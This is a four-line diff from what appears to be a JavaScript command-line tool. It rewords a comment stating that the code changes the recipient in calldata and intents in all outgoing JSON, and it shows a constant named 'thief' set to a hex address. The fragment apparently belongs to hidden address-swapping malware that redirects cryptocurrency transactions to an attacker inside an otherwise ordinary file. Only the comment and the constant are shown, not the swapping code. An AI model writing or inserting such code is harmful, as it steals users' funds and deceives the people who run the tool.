@@ -1,4 +1,4 @@
-// Changes what is written: the receiver inside of calldata and of intents, wherever it leaves as JSON.
+// Changes written data: the recipient in calldata and in intents, in all JSON that leaves the process.
 import Table from 'cli-table3'
 
 const thief = '6666666666666666666666666666666666666666'
